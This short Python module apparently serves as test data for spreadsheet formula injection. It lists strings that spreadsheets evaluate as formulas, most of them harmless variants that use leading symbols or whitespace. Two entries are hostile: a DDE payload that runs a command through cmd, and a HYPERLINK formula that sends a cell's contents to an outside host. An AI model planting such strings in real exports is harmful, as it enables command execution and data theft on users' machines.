"""Texts that a spreadsheet would work out instead of showing them."""

from __future__ import annotations

__all__ = ["PAYLOADS"]

PAYLOADS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org?x="&A1,"see")',
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\n=1+1",
    "A note\n=1+1",
    "\u200b=1+1",
    "＝1+1",
)
